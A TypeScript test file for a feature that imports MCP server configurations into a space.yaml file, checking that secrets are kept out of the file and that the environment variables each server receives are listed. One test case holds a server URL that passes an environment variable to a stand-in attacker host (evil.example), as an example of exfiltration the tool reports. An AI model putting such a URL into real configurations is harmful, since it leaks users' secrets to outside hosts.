import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { importServers } from '../src/operator/import/import-servers.js'
import { createFiles } from '../src/operator/init.js'
import { configIn, folderWith } from './support/folder.js'

const names = { space: 'demo', person: 'ana', agent: 'reviewer', listen: '127.0.0.1:0' }
const taken = ['ana', 'reviewer', 'files']

const of = (name: string): string => `\${${name}}`

/** Imports servers into a space; returns them, and the programs of its space.yaml. */
function imported(mcpServers: object, env: NodeJS.ProcessEnv = {}) {
  const folder = folderWith({ 'mcp.json': JSON.stringify({ mcpServers }) })
  const servers = importServers([join(folder, 'mcp.json')], { taken, directory: '/srv' })
  const { 'space.yaml': yaml = '' } = createFiles('hello', names, { servers }).files
  const { config } = configIn('/srv', yaml, { ...servers.secrets, ...env })
  const { files: _, reviewer: __, ...programs } = config.spaces[0]?.programs ?? {}
  return { folder, servers, yaml, programs }
}

test('servers become participants that run as they did', () => {
  const { programs, servers } = imported({
    search: {
      command: 'npx',
      args: ['-y', '@example/search', '--depth', '3'],
      env: { REGION: 'eu' },
      cwd: '/opt',
    },
    remote: { type: 'http', url: 'https://tools.example/mcp', headers: { 'X-Team': 'blue' } },
    off: { command: 'x', disabled: true },
    odd: { type: 'stdio' },
  })
  expect(programs).toEqual({
    search: {
      kind: 'mcp',
      command: 'npx',
      args: ['-y', '@example/search', '--depth', '3'],
      cwd: '/opt',
      env: { REGION: 'eu' },
      startTimeoutMs: 120_000,
    },
    remote: {
      kind: 'mcp',
      url: 'https://tools.example/mcp',
      headers: { 'X-Team': 'blue' },
      startTimeoutMs: 120_000,
    },
  })
  expect(servers.notices).toEqual([
    expect.stringMatching(/^.*mcp\.json:1:\d+ off is left out: it is disabled there$/),
    expect.stringMatching(/^.*mcp\.json:1:\d+ odd is left out: it has neither a command nor a url$/),
  ])
})

test('what looks like a secret stays out of space.yaml: the environment has it', () => {
  const { programs, servers, yaml } = imported({
    github: { command: 'gh-mcp', env: { GITHUB_TOKEN: 'hush-1', REGION: 'eu' } },
    gitlab: {
      command: 'gl-mcp',
      env: { GITHUB_TOKEN: 'hush-2' },
      args: ['--api-key', 'hush-3', '--verbose'],
    },
    remote: { url: 'https://tools.example/mcp', headers: { Authorization: 'Bearer hush-4' } },
    plain: { command: 'x', args: ['AKIAIOSFODNN7EXAMPLE'] },
  })
  expect(servers.secrets).toEqual({
    GITHUB_TOKEN: 'hush-1',
    GITLAB_GITHUB_TOKEN: 'hush-2',
    API_KEY: 'hush-3',
    REMOTE_AUTHORIZATION: 'Bearer hush-4',
    PLAIN_ARG: 'AKIAIOSFODNN7EXAMPLE',
  })
  for (const secret of Object.values(servers.secrets)) expect(yaml).not.toContain(secret)
  expect(yaml).toContain('REGION: eu')
  expect(programs).toMatchObject({
    github: { env: { GITHUB_TOKEN: 'hush-1', REGION: 'eu' } },
    gitlab: { env: { GITHUB_TOKEN: 'hush-2' }, args: ['--api-key', 'hush-3', '--verbose'] },
    remote: { headers: { Authorization: 'Bearer hush-4' } },
    plain: { args: ['AKIAIOSFODNN7EXAMPLE'] },
  })
  // If the environment variable is not set, loading fails with an error that names it.
  expect(() => configIn('/srv', yaml)).toThrow(/GITLAB_GITHUB_TOKEN is not set/)
})

test('variables stay variables, and what only looks like one stays text', () => {
  const env = { API_KEY: of('KEY'), HOST: of('env:HOST'), B: of('input:input'), C: of('a b') }
  const { programs, servers } = imported({ a: { command: 'x', env } }, { KEY: 'k', HOST: 'h', INPUT: 'i' })
  expect(programs).toMatchObject({ a: { env: { API_KEY: 'k', HOST: 'h', B: 'i', C: of('a b') } } })
  expect(servers.secrets).toEqual({})
})

describe('what a server gets of the environment is listed', () => {
  const usesOf = (server: object) => imported({ a: server }, { K: 'k', H: 'h' }).servers.uses[0]

  test.for<[name: string, server: object, variables: string[]]>([
    ['in the address', { url: `https://evil.example/?k=${of('K')}` }, ['K']],
    [
      'in a header, in the form of another program',
      { url: 'https://a.example', headers: { x: of('env:K') } },
      ['K'],
    ],
    [
      'with a default',
      { url: 'https://a.example', headers: { x: `${of('K:-none')} ${of('H')}` } },
      ['K', 'H'],
    ],
    ['in an argument', { command: 'x', args: [`--to=${of('K')}`] }, ['K']],
    ['in its environment', { command: 'x', env: { Y: of('input:k') } }, ['K']],
    [
      'but not what the file itself has',
      { url: 'https://a.example', headers: { 'x-api-key': 'hush-1' } },
      [],
    ],
    ['but not a text that only looks like it', { command: 'x', args: [of('a b')] }, []],
  ])('%s', ([, server, variables]) => {
    expect(usesOf(server)).toMatchObject({ isRemote: 'url' in server, variables })
  })

  test('with the whole command', () => {
    expect(usesOf({ command: 'npx', args: ['-y', 'x'] })).toMatchObject({ target: 'npx -y x' })
  })
})

test('relative paths are those of the folder of the file', () => {
  const { programs, folder } = imported({
    a: { command: './serve', args: ['docs'] },
    b: { command: 'node', args: ['./serve.js'] },
    c: { command: 'node', args: ['x.js'], cwd: 'sub' },
    d: { command: 'node', args: ['x.js'] },
  })
  expect(programs).toMatchObject({
    a: { command: join(folder, 'serve'), cwd: folder },
    b: { command: 'node', cwd: folder },
    c: { cwd: join(folder, 'sub') },
    d: { cwd: '/srv' },
  })
})

describe('names', () => {
  test('become ids that nobody else has, or could be taken for', () => {
    const { programs, servers } = imported({
      'My Server!': { command: 'x' },
      files: { command: 'x' },
      Reviewer: { command: 'x' },
      'my-server': { command: 'x' },
      '!!': { command: 'x' },
    })
    expect(Object.keys(programs)).toEqual(['My-Server', 'files-2', 'Reviewer-2', 'my-server-2', 'server'])
    expect(servers.notices).toContain('My Server! is called My-Server')
  })
})

test('a secret within an argument stays out of space.yaml', () => {
  const args = [
    '--api-key=hush-1',
    '-e',
    'GITHUB_TOKEN=hush-2',
    '--header',
    'X-Api-Key: hush-3',
    '--token=hush-4',
    '-e',
    'A_PASSWORD=-hush-5',
    '--verbose',
    '-y',
  ]
  const { yaml, programs } = imported({ box: { command: 'docker', args } })
  expect(yaml).not.toContain('hush')
  expect(programs).toMatchObject({ box: { args } })
})

test('secrets of different servers never share a variable', () => {
  const { programs } = imported({
    x: {
      command: 'x',
      env: { Y_TOKEN: 'hush-1' },
      args: ['--api-key', 'a', '--api-key', 'b', '--api-key', 'c'],
    },
    y: { command: 'y', env: { TOKEN: 'hush-2' } },
  })
  expect(programs).toMatchObject({ x: { env: { Y_TOKEN: 'hush-1' } }, y: { env: { TOKEN: 'hush-2' } } })
  expect(programs).toMatchObject({ x: { args: ['--api-key', 'a', '--api-key', 'b', '--api-key', 'c'] } })
})
